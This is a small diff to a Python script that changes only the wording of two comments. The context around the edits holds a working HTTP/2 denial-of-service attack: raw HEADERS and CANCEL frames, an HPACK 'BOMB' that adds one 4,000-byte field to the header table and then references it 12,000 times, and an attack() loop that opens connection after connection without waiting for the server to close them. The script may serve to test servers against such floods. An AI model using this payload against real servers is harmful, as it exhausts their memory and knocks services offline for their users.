@@ -23,7 +23,7 @@ PRIORITY, CONTINUATION = 2, 9
 # :method POST, :scheme https and :path / of the static table.
 REQUEST = b"\x83\x87\x84"
 OPEN = frame(HEADERS, END_HEADERS, 1, REQUEST)
-# A field of 4,000 bytes that enters the table, followed by thousands of references to it of one byte each.
+# A field of 4,000 bytes that is added to HPACK's table, followed by thousands of references to it of one byte each.
 BOMB = REQUEST + b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000 + b"\xbe" * 12_000
 CANCEL = b"\x00\x00\x00\x08"
 
@@ -53,7 +53,7 @@ def attack(name, port, ending, connects, sent):
         try:
             connection = Connection(port)
             connects.value += 1
-            # The service reads no more from a connection that it has ended, and an attacker does not wait for its end.
+            # The service no longer reads from a connection that it has ended, and an attacker does not wait until it is closed.
             connection.socket.settimeout(0.05)
             if wave is not None:
                 connection.socket.sendall(opening)
